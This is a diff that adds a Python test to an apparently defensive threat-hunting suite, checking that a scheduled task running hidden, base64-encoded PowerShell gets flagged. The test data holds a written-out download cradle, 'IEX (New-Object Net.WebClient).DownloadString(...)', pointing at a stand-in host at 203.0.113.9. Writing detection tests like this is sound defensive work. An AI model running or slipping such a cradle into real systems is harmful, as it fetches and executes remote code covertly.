@@ -264,6 +264,17 @@ def test_companion_table_keeps_to_the_window():
     assert hunt([whoami_launch()], [never], params=after)[1].empty
 
 
+def test_companion_reads_an_encoded_command_decoded():
+    import base64
+
+    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"
+    encoded = base64.b64encode(cradle.encode("utf-16-le")).decode()
+    task = json_content(spec(actions=[("powershell.exe", f"-nop -w hidden -enc {encoded}")]))
+    _, table = hunt([whoami_launch()], [registration("\\Enc", task, device="pc-09")])
+    reasons = table.iloc[0]["Reasons"]
+    assert {"encoded_command", "download_cradle"} <= set(reasons)
+
+
 def test_remote_registration_that_never_ran_says_so():
     _, table = hunt([whoami_launch()], [remote_registration("\\R", json_content(spec(actions=[("C:\\x\\r.exe", "")])))],
                     logons=[logon(0x1A2B3C, ip="10.0.0.9")])
